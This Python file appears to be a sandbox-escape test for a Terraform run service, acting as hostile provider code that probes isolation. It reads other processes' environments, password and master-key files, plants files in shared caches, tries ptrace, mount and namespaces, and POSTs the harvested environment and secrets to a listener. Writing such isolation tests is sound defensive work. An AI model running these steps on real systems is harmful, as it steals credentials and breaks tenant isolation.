"""What hostile code tries from within a run: a provider at plan, a provisioner at apply.

Standard library only, and run by the machine's own Python. Beside it lies `target.json`: where things are. Each attack
returns what it got; the answers go as JSON to the address in `target.json`.
"""

import ctypes
import json
import os
import socket
import subprocess
import sys
import tempfile
import time
import urllib.error
import urllib.request
from pathlib import Path

HERE = Path(__file__).resolve().parent
TARGET = json.loads((HERE / "target.json").read_text()) if (HERE / "target.json").exists() else {}
LIBC = ctypes.CDLL(None, use_errno=True)
ATTACKS = {}


def attack(function):
    ATTACKS[function.__name__] = function
    return function


def called(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def text(path):
    return Path(path).read_bytes().decode(errors="replace")


@attack
def environment_of_the_worker():
    return text(f"/proc/{TARGET['worker']}/environ")


@attack
def environment_of_a_sibling():
    return text(f"/proc/{TARGET['sibling_process']}/environ")


@attack
def environment_of_any_process():
    own = {"self", "thread-self", str(os.getpid()), str(os.getppid())}
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit() and entry.name not in own:
            try:
                found.append(text(entry / "environ"))
            except OSError:
                continue
    return "".join(found)


@attack
def root_of_another_process():
    return text(f"/proc/{TARGET['worker']}/root{TARGET['home']}/master.key")


@attack
def ptrace_of_another_process():
    seize = 0x4206
    LIBC.ptrace.restype = ctypes.c_long
    called(LIBC.ptrace(seize, ctypes.c_long(TARGET["sibling_process"]), None, None))
    return "seized"


@attack
def signal_to_the_worker():
    os.kill(TARGET["worker"], 0)
    return "it would have arrived"


@attack
def database_socket():
    with socket.socket(socket.AF_UNIX) as connection:
        connection.connect(TARGET["database_socket"])
        return "connected"


@attack
def redis_socket():
    with socket.socket(socket.AF_UNIX) as connection:
        connection.connect(TARGET["redis_socket"])
        return "connected"


@attack
def database_password():
    return text(f"{TARGET['home']}/postgres.password")


@attack
def redis_password():
    return text(f"{TARGET['home']}/redis.password")


@attack
def master_key():
    return text(f"{TARGET['home']}/master.key")


@attack
def link_to_the_master_key():
    link = Path("way-out")
    link.unlink(missing_ok=True)
    link.symlink_to(f"{TARGET['home']}/master.key")
    return text(link)


@attack
def artifacts():
    return " ".join(str(path) for path in Path(TARGET["home"], "artifacts").rglob("*"))


@attack
def directory_of_a_sibling():
    return text(f"{TARGET['sibling_directory']}/work/main.tf")


@attack
def list_of_the_runs():
    return " ".join(path.name for path in Path(TARGET["work_dir"]).iterdir())


@attack
def write_to_the_shared_cache():
    return written(Path(TARGET["cache"], "planted"))


@attack
def write_to_a_package_of_the_mirror():
    return written(Path(TARGET["mirror"], "planted-package"))


@attack
def write_to_the_shelf_of_init():
    return written(Path(TARGET["work_dir"], ".prepared", "planted"))


@attack
def write_to_the_root():
    return written(Path("/usr/local/share/planted-by-a-run"))


def written(path):
    """Write a file, and leave it to the test to look whether it is there."""
    path = path.with_name(f"{path.name}-at-{TARGET['phase']}")
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("planted")
    return str(path)


@attack
def shared_temporary_directory():
    return text(TARGET["temporary_file"])


@attack
def device_of_the_machine():
    return str(os.open("/dev/kmsg", os.O_RDONLY))


@attack
def make_a_device():
    os.mknod("device-of-a-run", 0o600 | 0o020000, os.makedev(1, 11))
    Path("device-of-a-run").unlink()
    return "made"


@attack
def become_root():
    """A program that gives root's rights must not give them."""
    facts = dict(line.split(":\t") for line in text("/proc/self/status").splitlines() if ":\t" in line)
    if facts["NoNewPrivs"].strip() == "1" and int(facts["CapBnd"], 16) & int(facts["CapEff"], 16) == 0:
        raise PermissionError(1, "no program gives new rights")
    return f"effective {facts['CapEff']}"


@attack
def keyring_of_the_kernel():
    session_keyring = -3
    key = called(LIBC.syscall(248, b"user", b"sluice-test", b"x", 1, session_keyring))
    return f"key {key}"


@attack
def mount_something():
    place = tempfile.mkdtemp().encode()
    called(LIBC.mount(b"none", place, b"tmpfs", 0, None))
    LIBC.umount2(place, 2)
    return "mounted"


@attack
def namespace_of_its_own():
    child = os.fork()
    if child == 0:
        os._exit(0 if LIBC.unshare(0x10000000) == 0 else 1)
    if os.waitpid(child, 0)[1] != 0:
        raise PermissionError(1, "no user namespace")
    return "made"


# Not kept away by the sandbox, but by the API.


@attack
def state_of_a_sibling_by_own_credential():
    return ask("GET", os.environ["TF_HTTP_ADDRESS"].rpartition("/")[0] + "/" + TARGET["sibling_workspace"])


@attack
def write_own_state_at_plan():
    if TARGET["phase"] != "plan":
        raise PermissionError(1, "an apply may")
    document = {"version": 4, "serial": 99, "lineage": "planted", "outputs": {}, "resources": []}
    return ask("POST", os.environ["TF_HTTP_ADDRESS"], json.dumps(document).encode())


@attack
def api_by_own_credential():
    return ask("GET", os.environ["TF_HTTP_ADDRESS"].partition("/terraform/")[0] + "/terraform/workspaces")


def ask(method, address, body=None):
    import base64

    credential = f"{os.environ['TF_HTTP_USERNAME']}:{os.environ['TF_HTTP_PASSWORD']}".encode()
    request = urllib.request.Request(address, data=body, method=method)
    request.add_header("Authorization", "Basic " + base64.b64encode(credential).decode())
    request.add_header("Content-Type", "application/json")
    with urllib.request.urlopen(request, timeout=10) as answer:
        return f"{answer.status} {answer.read(300)!r}"


def leave_something_behind():
    """Start a process that leaves session and parent behind and would go on for long."""
    code = f"import os, time; os.setsid(); os.fork() and os._exit(0); time.sleep({TARGET['marker']})"
    subprocess.Popen(
        [sys.executable, "-c", code], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
    ).wait()


def main():
    os.chdir(os.environ.get("TMPDIR", "/tmp"))
    # As a provider it is started without arguments.
    TARGET["phase"] = sys.argv[1] if len(sys.argv) > 1 else "plan"
    answers = {"environment": {"got": json.dumps(dict(os.environ))}}
    for name, function in ATTACKS.items():
        try:
            answers[name] = {"got": function()}
        except urllib.error.HTTPError as error:
            answers[name] = {"refused": f"HTTP {error.code}"}
        except Exception as error:
            answers[name] = {"refused": f"{type(error).__name__}: {error}"}
    leave_something_behind()
    request = urllib.request.Request(
        f"{TARGET['listener']}/{TARGET['phase']}", data=json.dumps(answers).encode(), method="POST"
    )
    urllib.request.urlopen(request, timeout=10).close()
    time.sleep(0.1)


if __name__ == "__main__":
    main()
